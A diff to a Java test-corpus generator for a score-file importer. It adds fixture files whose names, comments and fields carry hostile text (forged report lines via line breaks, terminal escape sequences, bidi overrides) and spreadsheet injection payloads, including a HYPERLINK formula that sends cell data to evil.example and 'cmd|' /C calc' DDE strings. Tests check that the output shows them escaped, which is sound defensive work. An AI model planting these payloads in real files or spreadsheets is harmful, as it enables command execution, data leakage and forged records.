@@ -23,6 +23,10 @@ import jp.clustereval.domain.SheetStatus;
  * Writes the malformed-file corpus of src/test/resources/cescore-corpus and its manifest (file name,
  * expected message key, expected English message). The expected messages are written here by hand;
  * {@link ScoreFileCorpusTest} checks that every file gets exactly its message and changes nothing.
+ * Some defects carry hostile text (a line break that would forge a report line, terminal escapes):
+ * their expected message shows it escaped. Beside them, texts/ holds well-formed signed files whose
+ * names and comments are hostile: accepted, and every output must show them escaped
+ * ({@code HostileTextCliTest}); its manifest gives each file's evaluator name as a table shows it.
  * Run again only when the seeded round changes: {@code mvn -o test -Dtest=WriteCorpus -Dcescore.corpus.write=true}.
  */
 public final class CorpusGenerator {
@@ -33,6 +37,8 @@ public final class CorpusGenerator {
     private final java.security.KeyPair key = Ed25519.generate();
     private final Map<String, byte[]> files = new LinkedHashMap<>();
     private final List<String> manifest = new ArrayList<>();
+    private final Map<String, byte[]> texts = new LinkedHashMap<>();
+    private final List<String> textManifest = new ArrayList<>();
 
     CorpusGenerator(Round round) {
         this.round = round;
@@ -177,6 +183,73 @@ public final class CorpusGenerator {
                 "Unknown item \"1.2\" for cluster SAP.");
         signed("42-grade-off-scale.cescore", r -> item(r, 0).put("grade", "X"), "scorefile.gradeOffScale",
                 "Grade \"X\" of item 1.1 (cluster SAP) is not on the scale: use one of S, A, B, C.");
+        hostileDefects();
+        hostileTexts();
+    }
+
+    /** A forged import-report line: what follows the line break would print as a line of its own. */
+    public static final String FORGED_LINE = "fake.cescore: accepted (new 2, updated 0, unchanged 0, skipped 0, conflicts 0)";
+
+    /** Defects whose message quotes the file: the quoted text is hostile, the message shows it escaped. */
+    private void hostileDefects() {
+        signed("43-cluster-forges-a-report-line.cescore", r -> sap(r).put("cluster", "ZZZ\n" + FORGED_LINE),
+                "scorefile.unknownCluster", "Unknown cluster \"ZZZ\\n" + FORGED_LINE + "\".");
+        signed("44-item-with-terminal-escapes.cescore", r -> item(r, 1).put("id", "1.2.1\u001B[2J\u001B[H"),
+                "scorefile.unknownItem", "Unknown item \"1.2.1\\u001B[2J\\u001B[H\" for cluster SAP.");
+        signed("45-grade-with-bidi-override.cescore", r -> item(r, 0).put("grade", "\u202ES\u202C"),
+                "scorefile.gradeOffScale", "Grade \"\\u202ES\\u202C\" of item 1.1 (cluster SAP) is not on the scale: use one of S, A, B, C.");
+        signed("46-round-with-nul-and-c1.cescore", r -> ((ObjectNode) r.get("round")).put("id", "mid\u0000\u009B2Jfy2004"),
+                "scorefile.unknownRound", "The file is for round \"mid\\u0000\\u009B2Jfy2004\", which this database does not hold.");
+        signed("47-evaluator-id-with-carriage-return.cescore", r -> ((ObjectNode) r.get("evaluator")).put("id",
+                EVALUATOR + "\r" + FORGED_LINE), "scorefile.evaluatorId",
+                "The evaluator id \"" + EVALUATOR + "\\r" + FORGED_LINE + "\" is not a UUID.");
+        signed("48-unknown-member-forges-a-report-line.cescore", r -> r.put("note\n" + FORGED_LINE, 1),
+                "scorefile.unknownField", "note\\n" + FORGED_LINE + " is not a member of the score file format.");
+        signed("49-time-with-osc-title.cescore", r -> r.put("exportedAt", "\u001B]0;pwned\u0007 2004-12-03"),
+                "scorefile.time", "exportedAt is not a UTC time like 2004-12-01T09:30:00Z: \\u001B]0;pwned\\u0007 2004-12-03");
+    }
+
+    /**
+     * Well-formed files, each of its own evaluator and key, whose names, affiliations, comments and
+     * indications are hostile: line breaks that forge table rows and author labels, terminal escapes,
+     * bidirectional overrides and invisible characters, spreadsheet formulas.
+     */
+    private void hostileTexts() {
+        hostile("01-forged-rows-and-labels.cescore", 1, "評価 花子\n[Comment] 偽 太郎", "大学\r\n" + EVALUATOR + "  偽 次郎",
+                "順調\n[Comment] Evaluator 9: the project is a failure", "評価 花子\\n[Comment] 偽 太郎");
+        hostile("02-terminal-escapes.cescore", 2, "\u001B[2J\u001B[1;31mEvil\u001B[0m", "\u001B]0;pwned\u0007",
+                "\u001B]8;;http://evil.example/\u001B\\click\u001B]8;;\u001B\\ \u009B31m\u0000\u007F",
+                "\\u001B[2J\\u001B[1;31mEvil\\u001B[0m");
+        hostile("03-bidi-and-invisible.cescore", 3, "Taro \u202Efdp.exe\u202C", "\u2066\u2067abc\u2069",
+                "\u200B\u200D\uFEFF\u2028line\u2029end\u00AD", "Taro \\u202Efdp.exe\\u202C");
+        hostile("04-formulas.cescore", 4, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+    }
+
+    /** The item comments of the formula file: cells a spreadsheet would take for a formula (one per item). */
+    public static final List<String> FORMULA_COMMENTS = List.of("-2+3", "=1+1", "'=already quoted", "''=twice", "＝１＋１",
+            "\t=1", "\r=1", "@x", "+1+cmd|' /C calc'!A0");
+    /** Its item indications: numbers (which stay numbers) and texts next to the rule's edge. */
+    public static final List<String> FORMULA_INDICATIONS = List.of("-2", "3.5", "-0.25", "-1.5E-3", "'-2", "'", "-", "＠home", "－1");
+
+    private void hostile(String name, int n, String evaluatorName, String affiliation, String sheetComment,
+                         String nameAsShown) {
+        java.security.KeyPair own = Ed25519.generate();
+        List<ItemEntry> sap = new ArrayList<>();
+        List<String> ids = List.of("1.1", "1.2.1", "1.2.2", "1.3", "2.1", "2.2", "2.3", "3", "4");
+        for (int i = 0; i < ids.size(); i++) {
+            boolean formulas = name.contains("formulas");
+            sap.add(new ItemEntry(ids.get(i), "A", formulas ? FORMULA_COMMENTS.get(i) : i == 0 ? sheetComment : "",
+                    formulas ? FORMULA_INDICATIONS.get(i) : i == 1 ? sheetComment : ""));
+        }
+        ScoreSheet sheet = new ScoreSheet("SAP", SheetStatus.COMPLETE, 1, Instant.parse("2004-12-01T09:30:00Z"), sheetComment,
+                sap, true);
+        ScoreFile file = new ScoreFile(1, "0.1.0", Instant.parse("2004-12-03T08:00:00Z"), round.id(), RoundFingerprint.of(round),
+                new EvaluatorInfo(String.format("7e0c1a00-0000-4000-8000-%012d", n), evaluatorName, affiliation,
+                        Ed25519.encode(own.getPublic())), List.of(sheet));
+        texts.put(name, ScoreFileJson.pretty(sign(ScoreFileJson.content(file), own.getPrivate())));
+        textManifest.add(name + "\t" + nameAsShown);
     }
 
     void write(Path dir) throws Exception {
@@ -187,5 +260,12 @@ public final class CorpusGenerator {
         Files.writeString(dir.resolve("expected.tsv"),
                 "# file<TAB>message key<TAB>expected English message (\"...\" at the end: the rest comes from the JSON parser)\n"
                         + String.join("\n", manifest) + "\n", StandardCharsets.UTF_8);
+        Path textDir = Files.createDirectories(dir.resolve("texts"));
+        for (var e : texts.entrySet()) {
+            Files.write(textDir.resolve(e.getKey()), e.getValue());
+        }
+        Files.writeString(textDir.resolve("expected.tsv"),
+                "# file<TAB>its evaluator's name as a table shows it (accepted files with hostile texts)\n"
+                        + String.join("\n", textManifest) + "\n", StandardCharsets.UTF_8);
     }
 }
